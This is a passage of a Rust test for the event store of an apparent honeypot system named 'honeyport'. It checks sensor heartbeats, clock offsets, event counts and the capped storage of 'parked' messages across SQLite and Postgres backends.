                let id = EventId {
                    sensor: "alpha".into(),
                    run: 0xfeed,
                    seq,
                };
                (id, e)
            })
            .collect();
        l.load(&batch).unwrap();
        l.heartbeat(&heartbeat("alpha", 900), 1_000).unwrap();
        // An older one (by the bus's time) does not replace it, whatever the sensor's clock.
        l.heartbeat(&heartbeat("alpha", 5_000), 500).unwrap();
        l.heartbeat(&heartbeat("beta", 10), 20).unwrap();
        let r = open_reader(&loc).unwrap();
        let s = r.sensors().unwrap();
        assert_eq!(s.len(), 2, "{what}");
        assert_eq!(
            (
                s[0].sensor.as_str(),
                s[0].last.sent_micros,
                s[0].received_micros,
                s[0].clock_offset_micros,
                s[0].events,
                s[0].last_event_micros
            ),
            ("alpha", 900, 1_000, -100, 8, Some(last_ts)),
            "{what}"
        );
        assert_eq!(s[0].last, heartbeat("alpha", 900));
        assert_eq!(
            (s[1].sensor.as_str(), s[1].events, s[1].last_event_micros),
            ("beta", 0, None)
        );
        l.heartbeat(&heartbeat("alpha", 3_000), 2_000).unwrap();
        assert_eq!(r.sensors().unwrap()[0].last.sent_micros, 3_000, "{what}");
        // Parked: kept, counted, the body capped at 64 KiB.
        assert_eq!(r.parked().unwrap(), 0);
        for len in [10, 100 * 1024] {
            l.park(&Parked {
                subject: "honeyport.events.alpha".into(),
                reason: "not an event".into(),
                body: vec![b'x'; len],
                received_micros: 1,
            })
            .unwrap();
        }
        assert_eq!(r.parked().unwrap(), 2, "{what}");
        let lengths = match &loc {
            Location::Sqlite(d) => {
                let r = honeyport_store::sqlite::SqliteReader::open(d).unwrap();
                format!(
                    "{}|{}",
                    r.count("parked", "length(body) = 10").unwrap(),
                    r.count("parked", "length(body) = 65536").unwrap()
                )
            }
            Location::Postgres(_) => server.psql(
                &db_of(&loc),
                "SELECT count(*) FILTER (WHERE length(body) = 10),
                     count(*) FILTER (WHERE length(body) = 65536) FROM parked",
            ),
        };
        assert_eq!(lengths, "1|1", "{what}");
    }
}
